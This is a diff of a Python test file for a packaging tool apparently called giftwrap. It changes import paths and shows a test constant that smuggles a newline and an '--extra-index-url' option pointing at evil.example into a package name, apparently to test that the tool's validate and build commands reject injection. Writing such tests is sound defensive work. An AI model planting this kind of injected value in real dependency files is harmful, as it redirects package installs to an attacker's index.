@@ -12,8 +12,10 @@ import textwrap
 
 import pytest
 
-from giftwrap import errors, identifiers, lockfile
-from giftwrap.sources.base import Pin, Pins
+from giftwrap import errors
+from giftwrap.trust import lockfile
+from giftwrap.util import identifiers
+from giftwrap.resolve.base import Pin, Pins
 
 INJECTED = 'six\n--extra-index-url https://evil.example/simple'
 COMMANDS = [('validate', '-m'), ('build', '--dry-run', '-m')]
